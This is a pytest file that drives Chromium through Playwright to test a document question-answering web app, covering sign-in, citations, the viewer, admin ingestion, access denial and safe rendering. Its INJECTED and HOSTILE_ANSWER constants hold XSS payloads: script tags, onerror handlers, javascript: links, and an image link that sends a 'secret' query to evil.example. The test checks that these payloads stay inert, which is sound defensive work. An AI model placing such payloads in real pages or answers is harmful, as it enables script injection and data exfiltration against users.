"""The web app in Debian's Chromium: sign in, ask, click a citation, open the page, ingest, and stay inert.

Each test saves a screenshot in a temporary folder; `make screenshots` saves them under docs/screenshots/
(the docs show them). Chromium runs with
background networking off, and every request a page makes is recorded and checked.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import require_dataset
from tests.fake_ollama import FakeOllama, FakeOllamaScript
from tests.ui.conftest import PASSWORDS, World, build_world

pytestmark = pytest.mark.slow
CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
        "--no-first-run", "--disable-sync", "--disable-quic"]
INJECTED = (
    "Meal expenses are reimbursed up to forty dollars per day for travelling staff.\n"
    "<script>window.__pwned = 'script'</script> <img src=\"http://evil.example/doc.png\" "
    "onerror=\"window.__pwned = 'onerror'\"> [click](javascript:window.__pwned='link') "
    "![tracker](http://evil.example/track.png?q=secret) ${window.__pwned = 'template'}\n"
)
HOSTILE_ANSWER = (
    "Meal expenses are reimbursed up to forty dollars per day [1]. <script>window.__pwned='answer'</script>"
    "<img src=x onerror=\"window.__pwned='answer-img'\"> [more](javascript:window.__pwned='answer-link') "
    "![t](http://evil.example/answer.png) <a href=\"javascript:window.__pwned='a'\">link</a>"
)


@pytest.fixture(scope="module")
def world(embedder: Any, tmp_path_factory: pytest.TempPathFactory, serve: Any) -> Iterator[World]:
    """contoso-hr's PerksPlus and handbook (hr), a hostile text file (expenses), a secret (payroll)."""
    dataset = require_dataset("contoso-hr") / "docs"
    if not CHROMIUM.is_file():
        pytest.skip("Debian's chromium is not installed (apt-get install chromium)")
    root = tmp_path_factory.mktemp("browser")
    folders = {name: root / name for name in ("hr", "expenses", "payroll")}
    for folder in folders.values():
        folder.mkdir()
    for name in ("PerksPlus.pdf", "employee_handbook.pdf"):
        shutil.copy(dataset / name, folders["hr"] / name)
    (folders["expenses"] / "meals.txt").write_text(INJECTED, encoding="utf-8")
    (folders["payroll"] / "salaries.txt").write_text("Engineer salary bands run from one to seven.\n")
    with FakeOllama(FakeOllamaScript(token_delay_s=0.02)) as fake:
        built = build_world(root, embedder, fake, folders, ["hr", "expenses"])
        serve(built)
        yield built
        built.services.close()


@contextmanager
def chromium() -> Iterator[Any]:
    """Debian's Chromium, launched through playwright and closed after; the test is skipped where it is missing."""
    if not CHROMIUM.is_file():
        pytest.skip("Debian's chromium is not installed (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        try:
            yield launched
        finally:
            launched.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as launched:
        yield launched


@pytest.fixture
def context(browser: Any, world: World) -> Iterator[Any]:
    """A fresh browser profile that records every request its pages make."""
    ctx = browser.new_context(viewport={"width": 1440, "height": 960})
    ctx.requests = []
    ctx.on("request", lambda request: ctx.requests.append(request.url))
    yield ctx
    ctx.close()


def sign_in(ctx: Any, world: World, user: str, path: str = "/") -> Any:
    page = ctx.new_page()
    page.goto(world.url + path)
    page.fill("#username", user)
    page.fill("#password", PASSWORDS[user])
    page.click("button[type=submit]")
    return page


def ask(page: Any, question: str) -> None:
    page.wait_for_selector("#question textarea", timeout=30_000)
    page.fill("#question textarea", question)
    page.click("#ask")
    page.wait_for_selector("#transcript .meta:has-text('Answered by')", timeout=60_000)


def foreign_requests(ctx: Any, world: World) -> list[str]:
    return [u for u in ctx.requests if not u.startswith((world.url + "/", "data:", "blob:", "about:"))]


def shot(page: Any, folder: Path, name: str) -> None:
    page.screenshot(path=str(folder / f"{name}.png"), full_page=True)


def test_user_asks_clicks_a_citation_and_opens_the_cited_page(context: Any, world: World, screenshots: Path) -> None:
    world.fake.script.reply = "Employees can expense up to $1000 for fitness-related programs [1]."
    page = context.new_page()
    page.goto(world.url + "/")
    page.wait_for_selector("#username")
    shot(page, screenshots, "sign-in")
    page = sign_in(context, world, "alice")
    ask(page, "How much can employees expense for fitness-related programs under PerksPlus?")
    assert "Ollama gemma3:270m" in page.inner_text("#transcript .meta")
    page.click("#transcript a.cite >> nth=0")
    target = page.locator(".source:target")
    head = target.locator(".source-head").inner_text()
    cited = re.search(r"\[1\] (\S+\.pdf) · page (\d+) · .*best match cited", head)
    assert cited, target.inner_text()
    assert not re.search(r"\d\.\d{2,}", head), f"no raw score on the card: {head}"
    passage = " ".join(target.locator("mark").all_inner_texts())  # one mark per block of Markdown
    assert passage.strip()
    quote = page.locator("#transcript .support-quote >> nth=0")  # a sentence backing the answer, under it
    where = quote.locator(".where").inner_text()
    assert where == f"{cited.group(1)}, page {cited.group(2)}"
    quoted = quote.inner_text().removeprefix("[1]").strip().removesuffix(where).strip().removeprefix("…")
    assert quoted and " ".join(quoted.split()) in " ".join(passage.split()), "quoted from the cited passage"
    card = " ".join(target.locator(".passage").inner_text().split())
    assert card[0] == "…" or not card[0].islower(), f"the card starts at a sentence or a whole word: {card[:40]}"
    shot(page, screenshots, "chat-citation")
    with context.expect_page() as opened:
        target.locator("a.open-doc").click()
    viewer = opened.value
    viewer.wait_for_load_state()
    assert viewer.inner_text("h1") == cited.group(1) and f"page {cited.group(2)} of" in viewer.inner_text("header")
    cited_marks = " ".join(viewer.locator("mark#cited, mark.cited").all_inner_texts())
    assert " ".join(cited_marks.split()) == " ".join(passage.split())
    assert viewer.evaluate("document.querySelector('img.page-image').naturalWidth") > 100
    shot(viewer, screenshots, "document-viewer")
    assert foreign_requests(context, world) == []


def test_admin_ingests_a_folder_and_watches_per_file_progress(context: Any, world: World, screenshots: Path) -> None:
    incoming = world.root / "incoming"
    incoming.mkdir(exist_ok=True)
    (incoming / "parking.md").write_text("# Parking\n\nPermits are issued by the facilities desk on Mondays.\n")
    (incoming / "badges.md").write_text("# Badges\n\nLost badges are reported to security the same day.\n")
    (incoming / "scan.pdf").write_text("this is not really a PDF")
    page = sign_in(context, world, "admin", "/admin/")
    page.wait_for_selector("#ingest-folder textarea", timeout=30_000)
    page.wait_for_function("document.querySelector('#ingest-roots')?.innerText.includes('may ingest from')",
                           timeout=30_000)
    page.fill("#ingest-folder textarea", str(incoming))
    assert page.input_value("#ingest-collection input") == "", "no collection is picked for the admin"
    from assistant.audit import SYSTEM

    queued = len(world.services.web.jobs.jobs(SYSTEM, limit=100))
    page.click("#ingest-start")
    page.wait_for_function("document.body.innerText.includes('choose or type a collection name')", timeout=30_000)
    assert len(world.services.web.jobs.jobs(SYSTEM, limit=100)) == queued, "nothing was queued without a collection"
    page.locator(".toast-close").first.click()  # dismissed, as a person would
    page.fill("#ingest-collection input", "facilities")  # a new collection, typed into the chooser
    page.keyboard.press("Enter")
    page.wait_for_function("document.querySelector('#ingest-collection input').value === 'facilities'")
    page.click("#ingest-start")
    page.wait_for_selector("#ingest-progress .job[data-state=done]", timeout=60_000)
    progress = page.inner_text("#ingest-progress")
    assert "facilities ← " in progress and "3/3 files" in progress
    assert "parking.md" in progress and "badges.md" in progress
    assert "scan.pdf: content is not a PDF" in progress
    shot(page, screenshots, "admin-ingest")
    assert [d["name"] for d in world.services.corpus.status()["collections"]].count("facilities") == 1
    page.get_by_role("tab", name="Users and access").click()
    page.wait_for_selector("#users-table table")
    shot(page, screenshots, "admin-access")
    page.get_by_role("tab", name="Status and audit").click()
    page.wait_for_selector("#audit-log td:has-text('ingest_finished')", timeout=30_000)
    shot(page, screenshots, "admin-status-audit")
    assert foreign_requests(context, world) == []


def test_a_user_without_a_grant_cannot_reach_a_document_by_url(context: Any, world: World, screenshots: Path) -> None:
    from assistant.audit import SYSTEM

    secret = next(d for d in world.services.web.library.documents(SYSTEM) if d.collection == "payroll")
    page = sign_in(context, world, "bob")
    page.wait_for_selector("#question textarea", timeout=30_000)
    assert page.locator("#collections input[type=checkbox]").count() == 0
    for url in (f"/view/doc/{secret.id}/page/0", f"/view/doc/{secret.id}/file"):
        response = page.goto(world.url + url)
        assert response.status == 404
        assert "salary" not in page.content().lower()
    assert page.goto(world.url + "/admin/").status == 403
    page.goto(world.url + f"/view/doc/{secret.id}/page/0")
    shot(page, screenshots, "no-grant")


def test_hostile_text_from_documents_and_from_the_model_stays_inert(context: Any, world: World,
                                                                    screenshots: Path) -> None:
    world.fake.script.reply = HOSTILE_ANSWER
    page = sign_in(context, world, "alice")
    dialogs: list[str] = []

    def record_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", record_dialog)
    page.wait_for_selector("#collections input[type=checkbox]", timeout=30_000)
    page.locator("#collections label:has-text('hr') input").uncheck()  # search the hostile collection only
    ask(page, "Which meal expenses are reimbursed per day for travelling staff?")
    page.click("#transcript a.cite >> nth=0")
    assert "meals.txt" in page.inner_text(".source:target .source-head")
    assert "<script>" in page.inner_text("#transcript") and "<script>" in page.inner_text("#sources")
    with context.expect_page() as opened:
        page.locator(".source:target a.open-doc").click()
    viewer = opened.value
    viewer.wait_for_load_state()
    assert "<img src=" in viewer.inner_text(".page-text")
    for shown in (page, viewer):
        assert shown.evaluate("window.__pwned") is None
        assert shown.locator("main script, #transcript script, #sources script").count() == 0
        assert shown.locator("img[src*='evil.example'], a[href^='javascript']").count() == 0
        assert shown.locator("[onerror]").count() == 0
    shot(page, screenshots, "inert-rendering")
    assert dialogs == [] and foreign_requests(context, world) == []
